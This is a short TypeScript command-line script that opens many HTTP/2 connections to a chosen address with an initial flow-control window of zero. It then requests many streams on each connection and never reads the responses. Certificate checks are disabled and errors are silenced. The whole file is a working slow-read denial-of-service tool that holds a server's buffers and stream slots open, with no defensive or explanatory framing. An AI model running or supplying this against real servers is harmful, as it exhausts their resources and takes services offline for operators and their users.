/** Asks for pages over HTTP/2, many at a time, and takes nothing of them: `slow-reader.ts ADDRESS CONNECTIONS STREAMS`. */
import { connect } from 'node:http2';

const [address, connections, streams] = process.argv.slice(2);
let answers = 0;
for (let at = 0; at < Number(connections); at++) {
  const session = connect(`https://${address}`, {
    rejectUnauthorized: false,
    settings: { initialWindowSize: 0 },
  });
  session.on('error', () => {});
  session.once('remoteSettings', () => {
    for (let stream = 0; stream < Number(streams); stream++) {
      const request = session.request({ ':path': stream % 2 === 0 ? '/' : '/pinata.json' });
      request.on('error', () => {});
      request.on('response', () => {
        answers++;
        if (answers === Number(connections) * Number(streams)) process.stdout.write('open\n');
      });
    }
  });
}
